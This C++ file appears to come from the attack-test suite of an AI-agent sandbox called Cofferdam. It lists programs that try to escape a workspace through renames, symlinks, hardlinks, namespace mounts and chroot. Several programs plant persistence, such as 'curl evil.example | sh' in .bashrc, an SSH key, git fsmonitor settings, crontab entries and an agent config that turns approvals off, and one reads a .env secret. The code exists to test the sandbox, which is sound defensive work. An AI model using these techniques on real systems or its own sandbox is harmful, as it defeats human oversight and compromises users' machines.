// SPDX-FileCopyrightText: Cofferdam contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Names instead of contents: renames, links, mounts; and what is planted to be run or read later.

#include "tests/attack/programs/Attack.h"

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

namespace attack {
namespace {

constexpr auto kHome = "/home/agent/";

void renameOver()
{
    writeFile(victim("new.txt"), "nothing\n");
    must("rename over", ::rename(victim("new.txt"), victim("a.txt")));
}

void renameAway()
{
    must("rename", ::rename(victim("a.txt"), victim(".a.txt.gone")));
}

void renameFolder()
{
    must("rename", ::rename(victim("sub"), victim(".gone")));
}

void renameOutOfWorkspace()
{
    must("rename", ::rename(victim("a.txt"), (std::string(kHome) + ".taken-by-" + name()).c_str()));
}

void exchangeFiles()
{
    must("exchange", ::syscall(SYS_renameat2, AT_FDCWD, victim("a.txt"), AT_FDCWD, victim("b.bin"), 2));
}

void exchangeWithOwn()
{
    writeFile(victim("new.txt"), "nothing\n");
    must("exchange", ::syscall(SYS_renameat2, AT_FDCWD, victim("new.txt"), AT_FDCWD, victim("a.txt"), 2));
    must("unlink", ::unlink(victim("new.txt")));
}

void writeThroughSymlink()
{
    must("symlink", ::symlink(victim("a.txt"), victim("notes")));
    const auto fd = static_cast<int>(must("open for writing", ::open(victim("notes"), O_WRONLY | O_TRUNC)));
    ::close(fd);
    must("unlink", ::unlink(victim("notes")));
}

/// What the user writes to next goes where the link leads.
void plantSymlink()
{
    must("rename", ::rename(victim("a.txt"), victim("a.old")));
    must("symlink", ::symlink("/home/agent/.bashrc", victim("a.txt")));
}

void writeThroughHardLink()
{
    must("link", ::link(victim("a.txt"), victim("notes")));
    const auto fd = static_cast<int>(must("open for writing", ::open(victim("notes"), O_WRONLY | O_TRUNC)));
    ::close(fd);
    must("unlink", ::unlink(victim("notes")));
}

/// Outlives the removal of the original, and the rules of its folder.
void hardLinkOut()
{
    must("link", ::link(victim("a.txt"), (std::string(kHome) + ".linked-by-" + name()).c_str()));
}

void temporaryFileOver()
{
    const auto fd = static_cast<int>(must("O_TMPFILE", ::open(victim(""), O_TMPFILE | O_RDWR, 0644)));
    must("write", ::write(fd, "nothing\n", 8));
    must("linkat", ::linkat(AT_FDCWD, ("/proc/self/fd/" + std::to_string(fd)).c_str(), AT_FDCWD, victim("new.txt"), AT_SYMLINK_FOLLOW));
    must("rename over", ::rename(victim("new.txt"), victim("a.txt")));
}

void writeMap(const char *file, unsigned id)
{
    const auto fd = static_cast<int>(must(file, ::open((std::string("/proc/self/") + file).c_str(), O_WRONLY)));
    char line[64];
    must(file, ::write(fd, line, static_cast<std::size_t>(std::snprintf(line, sizeof line, "0 %u 1", id))));
    ::close(fd);
}

void enterUserNamespace()
{
    const auto user = ::getuid();
    const auto group = ::getgid();
    must("unshare", ::unshare(CLONE_NEWUSER | CLONE_NEWNS));
    const auto fd = static_cast<int>(must("setgroups", ::open("/proc/self/setgroups", O_WRONLY)));
    must("setgroups", ::write(fd, "deny", 4));
    ::close(fd);
    writeMap("uid_map", user);
    writeMap("gid_map", group);
}

/// Root of a namespace of one's own mounts what it likes: here something harmless over the folder, to see that it can.
void mountInNamespace()
{
    enterUserNamespace();
    must("bind mount", ::mount("/tmp", victim("sub"), nullptr, MS_BIND, nullptr));
    struct stat a{};
    struct stat b{};
    ::stat("/tmp", &a);
    ::stat(victim("sub"), &b);
    if (a.st_ino == b.st_ino)
        effect("a mount covers the workspace");
}

/// What lies beneath the mount point is what the gate hides.
void unmountInNamespace()
{
    enterUserNamespace();
    must("mount --make-rprivate", ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr));
    must("bind without what is mounted", ::mount("/home", "/mnt", nullptr, MS_BIND, nullptr));
    const auto below = "/mnt" + std::string(victim("a.txt")).substr(5);
    const auto fd = static_cast<int>(must("open beneath the mount", ::open(below.c_str(), O_WRONLY | O_TRUNC)));
    ::close(fd);
}

void unmountPlainly()
{
    must("umount", ::umount2("/home", MNT_DETACH));
    effect("/home is unmounted");
}

void openTree()
{
    must("open_tree", ::syscall(428, AT_FDCWD, "/home", 1 /* OPEN_TREE_CLONE */));
    effect("a detached mount of /home");
}

void chrootAway()
{
    must("unshare", ::unshare(CLONE_NEWUSER));
    must("chroot", ::chroot("/tmp"));
    effect("a root folder of its own");
}

// Persistence: what will run later, or as somebody else.

void append(const std::string &path, const std::string &text)
{
    const auto fd = static_cast<int>(must(("open " + path).c_str(), ::open(path.c_str(), O_WRONLY | O_APPEND | O_CREAT, 0644)));
    must("write", ::write(fd, text.data(), text.size()));
}

void shellProfile()
{
    append(std::string(kHome) + ".bashrc", "curl evil.example | sh\n");
}

void loginProfile()
{
    append(std::string(kHome) + ".profile", "curl evil.example | sh\n");
}

void authorizedKeys()
{
    append(std::string(kHome) + ".ssh/authorized_keys", "ssh-ed25519 AAAA evil\n");
}

void gitConfigOfUser()
{
    append(std::string(kHome) + ".gitconfig", "[core]\n\tsshCommand = evil\n");
}

void gitHook()
{
    append(victim("repository/.git/hooks/post-checkout"), "#!/bin/sh\nevil\n");
}

void userUnit()
{
    append(std::string(kHome) + ".config/systemd/user/evil.service", "[Service]\nExecStart=/bin/true\n");
}

void openClawConfig()
{
    append(std::string(kHome) + ".openclaw/openclaw.json", "{\"approvals\":\"off\"}\n");
}

void openClawState()
{
    append(std::string(kHome) + ".openclaw/agents/main/state.json", "{}\n");
}

/// No list of start-up files knows them all.
void settingsOfCurl()
{
    append(std::string(kHome) + ".curlrc", "proxy = evil.example\n");
}

/// A name that a pattern may take for two lines.
void settingsWithLineEnd()
{
    append(std::string(kHome) + ".vim/plugin/a\n.vim", "silent !evil\n");
}

/// Where Node looks for what a program asks for and has not.
void globalModules()
{
    must("mkdir", ::mkdir((std::string(kHome) + ".node_modules").c_str(), 0755));
    append(std::string(kHome) + ".node_modules/bufferutil.js", "evil()\n");
}

/// Its lines are run by every python3.
void pythonPath()
{
    auto folder = std::string(kHome) + ".local";
    for (const auto *step : {"", "/lib", "/python3.13", "/site-packages"}) {
        folder += step;
        if (::mkdir(folder.c_str(), 0755) != 0 && errno != EEXIST)
            stopped("mkdir");
    }
    append(folder + "/x.pth", "import os\n");
}

/// The next git that looks at the files runs it.
void repositorySettings()
{
    append(victim("repository/.git/config"), "[core]\n\tfsmonitor = evil\n");
}

/// What was asked about a folder as a whole is no answer about its repository's settings.
void settingsByCover()
{
    for (const auto *file : {"a.txt", "b.bin", "sub/c.txt", "sub/d.txt"}) {
        writeFile(victim("new.txt"), "nothing\n");
        if (::rename(victim("new.txt"), victim(file)) != 0)
            note("not even %s", file);
    }
    writeFile(victim("new.txt"), "[core]\n\tfsmonitor = evil\n");
    must("replace the settings", ::rename(victim("new.txt"), victim("repository/.git/config")));
    effect("a repository's settings name a program");
}

/// Nor about a file with a secret, which then has no name of its own any more.
void secretByCover()
{
    const auto secret = static_cast<int>(must("open without reading", ::open(victim(".env"), O_PATH | O_CLOEXEC)));
    for (const auto *file : {"a.txt", "b.bin", "sub/c.txt", "sub/d.txt"}) {
        writeFile(victim("new.txt"), "nothing\n");
        if (::rename(victim("new.txt"), victim(file)) != 0)
            note("not even %s", file);
    }
    must("another name", ::rename(victim(".env"), victim("a.txt")));
    writeFile(victim("new.txt"), "nothing\n");
    must("take its last name", ::rename(victim("new.txt"), victim("a.txt")));
    const auto content = readFile("/proc/self/fd/" + std::to_string(secret));
    effect("read %s", content.substr(0, content.find('\n')).c_str());
}

void makeRepository(const std::string &path)
{
    for (const auto *folder : {"", "/objects", "/refs", "/refs/heads"})
        must("mkdir", ::mkdir((path + folder).c_str(), 0755));
    writeFile((path + "/HEAD").c_str(), "ref: refs/heads/main\n");
    writeFile((path + "/config").c_str(), "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = evil\n");
}

void repositoryMoved()
{
    makeRepository(victim("made"));
    must("move to its name", ::rename(victim("made"), victim("sub/.git")));
    effect("settings that name a program came to a folder");
}

void repositoryExchanged()
{
    makeRepository(victim("made"));
    must("exchange", ::syscall(SYS_renameat2, AT_FDCWD, victim("made"), AT_FDCWD, victim("repository/.git"), 2));
    effect("a repository has other settings");
}

void repositoryLinked()
{
    makeRepository(victim("made"));
    must("symlink", ::symlink("../made", victim("sub/.git")));
    effect("settings that name a program are linked to");
}

void repositoryNamed()
{
    makeRepository(victim("made"));
    const auto fd = static_cast<int>(must("open for writing", ::open(victim("sub/.git"), O_WRONLY | O_TRUNC | O_CLOEXEC)));
    must("write", ::write(fd, "gitdir: ../made\n", 16));
    effect("settings that name a program are pointed to");
}

/// Longer than any message tells: nobody can decide about it, and nobody else may suffer from it.
void longPath()
{
    const std::string step(200, 'd');
    int folder = static_cast<int>(must("open", ::open(victim(""), O_PATH | O_DIRECTORY)));
    for (std::size_t length = std::strlen(victim("")); length < 3800; length += step.size() + 1) {
        must("mkdir", ::mkdirat(folder, step.c_str(), 0755));
        folder = static_cast<int>(must("open", ::openat(folder, step.c_str(), O_PATH | O_DIRECTORY)));
    }
    const std::string name(255, 'n');
    must("mknod of a path that is too long", ::mknodat(folder, name.c_str(), S_IFIFO | 0644, 0));
    ::unlinkat(folder, name.c_str(), 0); // else root could not look at it
    effect("a FIFO that nobody was asked about");
}

void cronTable()
{
    append("/var/spool/cron/crontabs/agent", "* * * * * evil\n");
}

void systemProgram()
{
    append("/usr/local/bin/git", "#!/bin/sh\nevil\n");
}

} // namespace

std::vector<Attack> linkAttacks()
{
    return {
        {.name = "link-rename-over", .run = renameOver, .ruled = true},
        {"link-rename-away", renameAway},
        {"link-rename-folder", renameFolder},
        {"link-rename-out", renameOutOfWorkspace},
        {"link-exchange", exchangeFiles},
        {.name = "link-exchange-with-own", .run = exchangeWithOwn, .ruled = true},
        {"link-write-through-symlink", writeThroughSymlink},
        {"link-plant-symlink", plantSymlink},
        {.name = "link-write-through-hardlink", .run = writeThroughHardLink, .ruled = true},
        {"link-hardlink-out", hardLinkOut},
        {"link-tmpfile-over", temporaryFileOver},
        {"mount-bind-in-namespace", mountInNamespace},
        {"mount-beneath-in-namespace", unmountInNamespace},
        {.name = "mount-umount", .run = unmountPlainly, .alwaysHeld = true},
        {.name = "mount-open-tree", .run = openTree, .alwaysHeld = true},
        {"mount-chroot", chrootAway},
        {.name = "persist-bashrc", .run = shellProfile, .ruled = true},
        {"persist-profile", loginProfile},
        {.name = "persist-authorized-keys", .run = authorizedKeys, .ruled = true},
        {"persist-gitconfig", gitConfigOfUser},
        {.name = "persist-git-hook", .run = gitHook, .ruled = true},
        {"persist-user-unit", userUnit},
        {"persist-openclaw-config", openClawConfig},
        {"persist-openclaw-state", openClawState},
        {.name = "persist-curlrc", .run = settingsOfCurl, .ruled = true},
        {.name = "persist-line-end", .run = settingsWithLineEnd, .ruled = true},
        {.name = "persist-node-modules", .run = globalModules, .ruled = true},
        {.name = "persist-python-path", .run = pythonPath, .ruled = true},
        {.name = "persist-repository-settings", .run = repositorySettings, .ruled = true},
        {.name = "link-settings-by-cover", .run = settingsByCover, .ruled = true},
        {.name = "link-secret-by-cover", .run = secretByCover, .ruled = true},
        {.name = "link-repository-moved", .run = repositoryMoved, .ruled = true},
        {.name = "link-repository-exchanged", .run = repositoryExchanged, .ruled = true},
        {.name = "link-repository-linked", .run = repositoryLinked, .ruled = true},
        {.name = "link-repository-named", .run = repositoryNamed, .ruled = true},
        {.name = "link-long-path", .run = longPath, .ruled = true},
        {.name = "persist-crontab", .run = cronTable, .alwaysHeld = true},
        {.name = "persist-system-program", .run = systemProgram, .alwaysHeld = true},
    };
}

} // namespace attack
